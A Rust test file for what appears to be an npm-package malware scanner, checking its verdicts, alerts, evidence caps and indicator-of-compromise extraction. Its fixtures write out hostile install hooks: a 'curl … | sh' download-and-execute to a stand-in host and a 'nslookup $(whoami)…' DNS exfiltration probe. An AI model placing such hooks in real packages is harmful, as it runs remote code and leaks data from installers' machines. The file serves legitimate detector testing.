//! The per-package JSON the CLI prints: shape, determinism, evidence caps, IOCs.

mod support;

use ringfence_inspect::archive::{Limits, read_tarball};
use ringfence_inspect::report::{InspectOptions, inspect, inspect_path};
use ringfence_inspect::{AlertId, Verdict};
use support::tgz;

fn dropper() -> Vec<u8> {
    let manifest = br#"{
  "name": "lodahs",
  "version": "1.0.0",
  "main": "index.js",
  "scripts": {
    "preinstall": "curl -s https://payload.example/stage2.sh | sh",
    "postinstall": "node setup.js"
  },
  "dependencies": { "helper": "http://198.51.100.7/helper.tgz" }
}"#;
    tgz(&[
        ("package.json", manifest),
        ("index.js", b"module.exports = {};\n"),
        ("setup.js", b"console.log('hi');\n"),
    ])
}

#[test]
fn a_dropper_is_malicious_with_evidence_and_iocs() {
    let contents = read_tarball(&dropper(), &Limits::default());
    let report = inspect(&contents, &InspectOptions::default());
    assert_eq!(report.name.as_deref(), Some("lodahs"));
    assert_eq!(report.version.as_deref(), Some("1.0.0"));
    assert_eq!(report.verdict, Verdict::Malicious);
    assert_eq!(report.decided_by, vec![AlertId::DownloadExecute]);
    let ids: Vec<AlertId> = report.alerts.iter().map(|a| a.alert.id).collect();
    for id in [
        AlertId::DownloadExecute,
        AlertId::InstallTimeNetwork,
        AlertId::InstallScript,
        AlertId::HttpDependency,
        AlertId::Typosquat,
    ] {
        assert!(ids.contains(&id), "{id} missing from {ids:?}");
    }
    assert_eq!(ids[0], AlertId::DownloadExecute, "most severe first");
    let install = report
        .alerts
        .iter()
        .find(|a| a.alert.id == AlertId::InstallScript)
        .unwrap();
    assert_eq!(install.alert.evidence.len(), 2);
    assert_eq!(
        install.alert.evidence[0].line, 6,
        "points at the preinstall key"
    );
    assert_eq!(
        report.iocs.urls,
        vec![
            "http://198.51.100.7/helper.tgz",
            "https://payload.example/stage2.sh"
        ]
    );
    assert_eq!(report.iocs.hosts, vec!["payload.example"]);
    assert_eq!(report.iocs.ips, vec!["198.51.100.7"]);
    assert_eq!(report.iocs.files.len(), 1);
    assert_eq!(report.iocs.files[0].path, "package.json");
    assert_eq!(report.iocs.tarball_sha256, contents.tarball_sha256);
    assert!(report.files_analysed >= 3, "{}", report.files_analysed);
}

#[test]
fn the_json_has_the_fields_the_cli_prints() {
    let report = inspect(
        &read_tarball(&dropper(), &Limits::default()),
        &InspectOptions::default(),
    );
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["verdict"], "malicious");
    assert_eq!(json["decided_by"], serde_json::json!(["download-execute"]));
    let alert = &json["alerts"][0];
    assert_eq!(alert["id"], "download-execute");
    assert_eq!(alert["kind"], "threat");
    assert_eq!(alert["severity"], "critical");
    assert!(alert["message"].as_str().unwrap().contains("downloads"));
    let evidence = &alert["evidence"][0];
    for key in ["file", "line", "column", "snippet", "detail", "urls"] {
        assert!(
            evidence.get(key).is_some(),
            "evidence lacks {key}: {evidence}"
        );
    }
    assert_eq!(evidence["file"], "package.json");
    assert!(
        evidence["snippet"]
            .as_str()
            .unwrap()
            .contains("curl -s https://payload.example/stage2.sh")
    );
    for key in [
        "urls",
        "hosts",
        "ips",
        "webhooks",
        "files",
        "tarball_sha256",
    ] {
        assert!(json["iocs"].get(key).is_some(), "iocs lack {key}");
    }
    assert!(json["tarball_sha256"].as_str().unwrap().len() == 64);
    assert!(json["problems"].as_array().unwrap().is_empty());
}

#[test]
fn output_is_deterministic() {
    let bytes = dropper();
    let a = serde_json::to_string(&inspect(
        &read_tarball(&bytes, &Limits::default()),
        &InspectOptions::default(),
    ))
    .unwrap();
    for _ in 0..5 {
        let b = serde_json::to_string(&inspect(
            &read_tarball(&bytes, &Limits::default()),
            &InspectOptions::default(),
        ))
        .unwrap();
        assert_eq!(a, b);
    }
}

#[test]
fn evidence_is_capped_with_a_count_of_the_rest() {
    let mut files: Vec<(String, Vec<u8>)> = vec![(
        "package.json".into(),
        br#"{"name":"natives","version":"1.0.0"}"#.to_vec(),
    )];
    for i in 0..30 {
        files.push((format!("bin/tool{i:02}"), b"\x7fELF\x02\x01\x01\0".to_vec()));
    }
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, b)| (p.as_str(), b.as_slice()))
        .collect();
    let report = inspect(
        &read_tarball(&tgz(&refs), &Limits::default()),
        &InspectOptions {
            max_evidence: 5,
            ..InspectOptions::default()
        },
    );
    let native = report
        .alerts
        .iter()
        .find(|a| a.alert.id == AlertId::NativeCode)
        .unwrap();
    assert_eq!(native.alert.evidence.len(), 5);
    assert_eq!(native.evidence_omitted, 25);
    assert_eq!(native.alert.evidence[0].file, "bin/tool00");
    let json = serde_json::to_value(native).unwrap();
    assert_eq!(json["evidence_omitted"], 25);
    assert_eq!(report.verdict, Verdict::Ok, "native code is a capability");
}

#[test]
fn a_plain_package_is_ok_with_no_iocs() {
    let bytes = tgz(&[
        ("package.json", br#"{"name":"left-pad","version":"1.3.0"}"#),
        ("index.js", b"module.exports = (s) => s;\n"),
    ]);
    let report = inspect(
        &read_tarball(&bytes, &Limits::default()),
        &InspectOptions::default(),
    );
    assert_eq!(report.verdict, Verdict::Ok);
    assert!(report.decided_by.is_empty());
    assert!(report.iocs.is_empty());
    assert!(report.iocs.tarball_sha256.is_some());
}

#[test]
fn inspect_path_reads_tarballs_and_folders() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("dropper.tgz");
    std::fs::write(&path, dropper()).unwrap();
    let report = inspect_path(&path, &InspectOptions::default()).unwrap();
    assert_eq!(report.verdict, Verdict::Malicious);
    let folder = dir.path().join("pkg");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(
        folder.join("package.json"),
        br#"{"name":"x","scripts":{"postinstall":"nslookup $(whoami).probe.example"}}"#,
    )
    .unwrap();
    let report = inspect_path(&folder, &InspectOptions::default()).unwrap();
    assert_eq!(report.verdict, Verdict::Malicious);
    assert_eq!(report.tarball_sha256, None);
    assert_eq!(report.iocs.hosts, vec!["probe.example"]);
}

#[test]
fn a_flagged_package_lists_its_bundled_binaries_as_iocs() {
    let manifest = br#"{"name":"dropper","version":"1.0.0","scripts":{"postinstall":"curl -s https://payload.example/x | sh"}}"#;
    let mut pe = vec![0u8; 0x100];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let bytes = tgz(&[("package.json", manifest), ("payload.exe", &pe)]);
    let report = inspect(
        &read_tarball(&bytes, &Limits::default()),
        &InspectOptions::default(),
    );
    assert_eq!(report.verdict, Verdict::Malicious);
    let files: Vec<&str> = report.iocs.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(files, vec!["package.json", "payload.exe"]);
    // The same binary in a clean package is not an indicator.
    let clean = tgz(&[
        ("package.json", br#"{"name":"clean","version":"1.0.0"}"#),
        ("payload.exe", &pe),
    ]);
    let report = inspect(
        &read_tarball(&clean, &Limits::default()),
        &InspectOptions::default(),
    );
    assert_eq!(report.verdict, Verdict::Ok);
    assert!(report.iocs.files.is_empty());
}

#[test]
fn code_that_runs_must_parse_other_files_are_listed() {
    let manifest = br#"{"name":"p","version":"1.0.0","main":"lib/main.js","bin":{"p":"bin/p","q":"bin/q.sh"},"scripts":{"postinstall":"node setup"}}"#;
    let broken = b"this is { not javascript";
    let shell = b"#!/bin/sh\nexec node \"$(dirname \"$0\")/../lib/main.js\" \"$@\"\n";
    let bytes = tgz(&[
        ("package.json", manifest),
        ("lib/main.js", b"module.exports = 1;\n"),
        ("setup.js", b"require('./lib/helper');\n"),
        ("lib/helper.js", broken),
        (
            "bin/p",
            b"#!/usr/bin/env node\nrequire('../lib/main.js');\n",
        ),
        ("bin/q.sh", shell),
        ("test/fixture.js", broken),
    ]);
    let report = inspect(
        &read_tarball(&bytes, &Limits::default()),
        &InspectOptions::default(),
    );
    assert_eq!(
        report.unparsed_files,
        vec!["lib/helper.js", "test/fixture.js"]
    );
    let unanalysable = report
        .alerts
        .iter()
        .find(|a| a.alert.id == AlertId::Unanalysable)
        .expect("install-time code must parse");
    let files: Vec<&str> = unanalysable
        .alert
        .evidence
        .iter()
        .map(|e| e.file.as_str())
        .collect();
    assert_eq!(
        files,
        vec!["lib/helper.js"],
        "required by install-time code; the test fixture is only listed"
    );
    assert_eq!(report.verdict, Verdict::Suspicious);
}
